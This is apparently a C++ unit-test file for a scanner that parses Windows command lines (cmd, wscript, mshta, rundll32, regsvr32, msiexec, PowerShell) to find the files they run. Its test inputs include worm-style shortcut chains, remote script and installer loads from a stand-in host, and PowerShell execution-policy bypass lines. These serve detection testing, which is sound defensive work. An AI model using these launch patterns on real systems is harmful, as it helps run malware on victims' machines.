#include "scan/command_reader.h"

#include <gtest/gtest.h>

#include <chrono>

namespace vx::test {
namespace {

using scan::CommandFile;
using scan::RunRole;

// "C:path" for Code, "P:path" for Program, "O:path" for Opened, joined by " | ".
std::string shown(const std::vector<CommandFile>& files) {
    std::string out;
    for (const auto& f : files) {
        if (!out.empty()) out += " | ";
        out += f.role == RunRole::Code ? "C:" : f.role == RunRole::Program ? "P:" : "O:";
        out += f.path;
    }
    return out;
}

struct Case {
    const char* program;
    const char* arguments;
    const char* expected;
};

void expectAll(const std::vector<Case>& cases) {
    for (const Case& c : cases)
        EXPECT_EQ(shown(scan::readCommand(c.program, c.arguments)), c.expected) << c.program << " " << c.arguments;
}

TEST(CommandReader, InterpreterNames) {
    for (const char* name : {"cmd", "CMD.EXE", "C:\\Windows\\System32\\cmd.exe", "%ComSpec%", "%COMSPEC%",
                             "wscript.exe", "CScript", "mshta", "%SystemRoot%\\system32\\rundll32.exe", "regsvr32",
                             "msiexec.exe", "powershell.exe", "pwsh", "\"cmd.exe\""})
        EXPECT_TRUE(scan::isInterpreter(name)) << name;
    for (const char* name : {"explorer.exe", "notepad.exe", "cmdx.exe", "E:\\cmd\\x.exe", "", "cmd.exe.lnk"})
        EXPECT_FALSE(scan::isInterpreter(name)) << name;
}

TEST(CommandReader, CmdChains) {
    expectAll({
        {"cmd.exe", "/c start _ & _\\DeviceManager.exe & exit", "O:_ | C:_\\DeviceManager.exe"},
        {"cmd.exe", "/c start explorer Fotos & worm.vbs", "O:Fotos | C:worm.vbs"},
        {"cmd.exe", "/q/c \"start \"\" \"a b.exe\"\"", "C:a b.exe"},
        {"cmd.exe", "/C \"a.exe && b.bat || c.cmd | d.com\"", "C:a.exe | C:b.bat | C:c.cmd | C:d.com"},
        {"cmd", "/d /q /a /u /e:on /v:on /f:off /t:fg /c x.exe", "C:x.exe"},
        {"cmd", "/k y.js", "C:y.js"},
        {"cmd", "/cstart x.exe", "C:x.exe"},
        {"cmd", "/c \"E:\\a b\\x.exe\" arg", "C:E:\\a b\\x.exe"},
        {"cmd", "/s /c \"\"E:\\a b\\x.exe\" arg\"", "C:E:\\a b\\x.exe"},
        // Escaped and quoted separators stay in the command.
        {"cmd", "/c a^&b.exe & \"c&d.exe\"", "C:a&b.exe | C:c&d.exe"},
        // Built-ins run nothing; call runs its argument; drives and labels are no files.
        {"cmd", "/c @echo off & cd.. & echo.x & set a=b & attrib -h -s E:\\* & call x.bat & E: & goto :eof", "C:x.bat"},
        {"cmd", "/c del x.exe & rem start y.exe & z.exe", ""},
        {"cmd", "/c (start x.exe) & (y.exe)", "C:x.exe | C:y.exe"},
        {"cmd", "/c if exist E:\\x.vbs (start x.vbs) else (y.exe)", "C:x.vbs | C:y.exe"},
        {"cmd", "/c if /i not %a%==b a.exe & if \"%b%\" == \"\" b.exe & if 1 equ 1 c.exe",
         "C:a.exe | C:b.exe | C:c.exe"},
        {"cmd", "/c for %%f in (*.exe) do %%f & if errorlevel 1 exit", "C:%%f"},
        {"cmd", "/c DeviceManager", "C:DeviceManager"},
        {"cmd", "/c budget.xls", "O:budget.xls"},
        {"cmd", "/c %TEMP%\\x.exe & x.exe", "C:%TEMP%\\x.exe | C:x.exe"},
        {"cmd", "/c", ""},
        {"cmd", "", ""},
    });
}

TEST(CommandReader, CmdInputIsCodeOnlyForCmdItself) {
    expectAll({
        {"cmd.exe", "/r < x.ico", "C:x.ico"},
        {"cmd.exe", "/R<xx.ico", "C:xx.ico"},
        {"cmd.exe", "< x.ico", "C:x.ico"},
        {"cmd", "/c cmd < \"a b.txt\"", "C:a b.txt"},
        {"cmd", "/c cmd /k < x.dat", "C:x.dat"},
        {"cmd", "/c type x.txt | cmd", "C:x.txt"},
        {"cmd", "/c type x.txt | find y", "C:find"},
        {"cmd", "/c cmd /c y.exe < x.txt", "C:y.exe"},
        {"cmd", "/c sort < x.txt", "C:sort"},
        {"cmd", "/c a.exe & < x.txt", "C:a.exe"},
        // Outputs are never files run.
        {"cmd", "/c x.exe > out.exe 2>&1 & y.exe >> log.bat 2> err.vbs & echo a>z.exe", "C:x.exe | C:y.exe"},
    });
}

TEST(CommandReader, StartTitleAndOptions) {
    expectAll({
        {"cmd", "/c start \"\" /d E:\\_ /b /min /wait x.exe a b", "C:x.exe"},
        {"cmd", "/c start \"My title\" /high /affinity 3 /node 1 \"E:\\a b\\y.vbs\"", "C:E:\\a b\\y.vbs"},
        {"cmd", "/c start/min/b z.exe", "C:z.exe"},
        {"cmd", "/c start \"only a title\"", ""},
        {"cmd", "/c start budget.xls & start Fotos & start http://x.example/a.exe", "O:budget.xls | O:Fotos"},
        {"cmd", "/c start /realtime /separate /i wscript //B x.vbs", "C:x.vbs"},
    });
}

TEST(CommandReader, NestedInterpretersInOrder) {
    expectAll({
        {"cmd", "/c start cmd /c \"a.exe & wscript b.vbs\" & c.exe", "C:a.exe | C:b.vbs | C:c.exe"},
        {"cmd", "/c cmd/c cmd /c start \"\" rundll32 x.dll,Run", "C:x.dll"},
        {"%ComSpec%", "/c start /b powershell -ep bypass -f p.ps1 & mshta h.hta", "C:p.ps1 | C:h.hta"},
        {"cmd", "/c explorer.exe /e,/root,E:\\_ & x.exe", "O:E:\\_ | C:x.exe"},
        // Carets are gone when the nested cmd reads its line.
        {"cmd", "/c cmd /c a.exe ^& b.exe", "C:a.exe | C:b.exe"},
    });
}

TEST(CommandReader, ScriptHostsAndHtml) {
    expectAll({
        {"wscript.exe", "//e:vbscript //B //nologo //T:10 x.ico arg1 arg2", "C:x.ico"},
        {"cscript", "//job:a \"E:\\a b\\c.wsf\" x.vbs", "C:E:\\a b\\c.wsf"},
        {"wscript", "\"a\\\\\"\" b.vbs", "C:a\\\" b.vbs"},
        {"wscript", "\"say \"\"hi\"\".js\"", "C:say \"hi\".js"},
        {"mshta", "E:\\x.hta", "C:E:\\x.hta"},
        {"mshta", "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"x.exe\"\"\")", ""},
        {"mshta", "\"javascript:a=1;close()\"", ""},
        {"mshta", "HTTPS://x.example/a.hta", ""},
        {"mshta", "about:blank", ""},
    });
}

TEST(CommandReader, Rundll32Forms) {
    expectAll({
        {"rundll32.exe", "x.dll,Entry", "C:x.dll"},
        {"rundll32", "\"a b.dll\",#1", "C:a b.dll"},
        {"rundll32", "~$WQQAS.FAT32,_ldr@16 desktop.ini RET TLB", "C:~$WQQAS.FAT32"},
        {"rundll32", "shell32.dll,Control_RunDLL x.cpl,@0", "C:shell32.dll | C:x.cpl"},
        {"rundll32", "url.dll,FileProtocolHandler E:\\w.exe", "C:url.dll | C:E:\\w.exe"},
        {"rundll32", "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", ""},
        {"rundll32", "x.dll Entry", "C:x.dll"},
    });
}

TEST(CommandReader, InstallersAndPowerShell) {
    expectAll({
        {"regsvr32", "/s /u /n /i x.dll", "C:x.dll"},
        {"regsvr32", "/s /n /u /i:http://x.example/a.sct scrobj.dll", "C:scrobj.dll"},
        {"regsvr32", "/s /i:E:\\a.sct scrobj.dll", "C:E:\\a.sct | C:scrobj.dll"},
        {"msiexec", "/q /i E:\\a.msi /norestart PROP=1 /l*v log.txt", "C:E:\\a.msi"},
        {"msiexec", "-i http://x.example/a.msi /qn", ""},
        {"msiexec", "/quiet /package \"E:\\a b.msi\"", "C:E:\\a b.msi"},
        {"msiexec", "/p patch.msp /x {11111111-2222-3333-4444-555555555555}", "C:patch.msp"},
        {"powershell.exe", "-NoP -NonI -W Hidden -ExecutionPolicy Bypass -File E:\\a.ps1 -x y", "C:E:\\a.ps1"},
        {"powershell", "-f x.ps1", "C:x.ps1"},
        {"powershell", "/FIL x.ps1", "C:x.ps1"},
        {"powershell", "-Command \"& 'E:\\a b.ps1' -x\"", "C:E:\\a b.ps1"},
        {"powershell", "-enc SQBFAFgA -File x.ps1", ""},
        {"powershell", ".\\y.ps1 arg", "C:.\\y.ps1"},
        {"pwsh", "-nop z.ps1", "C:z.ps1"},
    });
}

TEST(CommandReader, ProgramsAndExplorer) {
    expectAll({
        {"E:\\_\\DeviceManager.exe", "/x", "P:E:\\_\\DeviceManager.exe"},
        {"\"E:\\a b.exe\"", "", "P:E:\\a b.exe"},
        {"explorer.exe", "Fotos", "P:explorer.exe | O:Fotos"},
        {"C:\\Windows\\explorer", "/n,/e,/select,\"E:\\a b\\c.txt\"", "P:C:\\Windows\\explorer | O:E:\\a b\\c.txt"},
        {"explorer", "/root,E:\\_ ::{20D04FE0-3AEA-1069-A2D8-08002B30309D} shell:startup", "P:explorer | O:E:\\_"},
        {"", "x.exe", ""},
    });
}

TEST(CommandReader, CommandLines) {
    const std::vector<std::pair<const char*, const char*>> cases = {
        {"\"C:\\Program Files\\x\\y.exe\" arg", "P:C:\\Program Files\\x\\y.exe"},
        {"C:\\Program Files\\x\\y.exe arg", "P:C:\\Program Files\\x\\y.exe"},
        {"C:\\tools\\run /x C:\\a.exe", "P:C:\\tools\\run"},
        {"  wscript.exe //B \"%APPDATA%\\w.vbs\"", "C:%APPDATA%\\w.vbs"},
        {"cmd /c start _ & _\\x.exe", "O:_ | C:_\\x.exe"},
        {"\"C:\\Windows\\system32\\rundll32.exe\" E:\\a.dll,Go", "C:E:\\a.dll"},
        {"", ""},
    };
    for (const auto& [line, expected] : cases) EXPECT_EQ(shown(scan::readCommandLine(line)), expected) << line;
}

TEST(CommandReader, DuplicatesOnceAndEntriesCapped) {
    EXPECT_EQ(shown(scan::readCommand("cmd", "/c x.exe & start x.exe & x.exe")), "C:x.exe");
    std::string chain = "/c ";
    for (int i = 0; i < 1000; ++i) chain += "w" + std::to_string(i) + ".exe & ";
    const auto files = scan::readCommand("cmd", chain);
    ASSERT_EQ(files.size(), 256u);
    EXPECT_EQ(files.front().path, "w0.exe");
    EXPECT_EQ(files.back().path, "w255.exe");
}

TEST(CommandReader, HostileInputsStayFast) {
    using Clock = std::chrono::steady_clock;
    const std::vector<std::string> lines = {
        "/c " + std::string(65536, '&'),
        "/c " + std::string(65536, '"'),
        "/c " + std::string(65536, '^'),
        [] {
            std::string s = "/c ";
            while (s.size() < 65536) s += "cmd /c ";
            return s + "x.exe";
        }(),
        [] {
            std::string s = "/c ";
            while (s.size() < 65536) s += "start cmd /c call ";
            return s;
        }(),
        [] {
            std::string s = "/c ";
            while (s.size() < 65536) s += "if 1==1 else (for %a in (x) do ";
            return s;
        }(),
        [] {
            std::string s = "/c echo ";
            while (s.size() < 65536) s += "a ";
            return s + "& w.exe";
        }(),
    };
    for (const auto& line : lines) {
        const auto begin = Clock::now();
        const auto files = scan::readCommand("cmd.exe", line);
        const auto spent = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - begin);
        EXPECT_LT(spent.count(), 500) << line.substr(0, 40);
        for (const auto& f : files) EXPECT_LE(f.path.size(), line.size());
    }
    EXPECT_EQ(shown(scan::readCommand("cmd.exe", lines.back())), "C:w.exe");
}

}  // namespace
}  // namespace vx::test
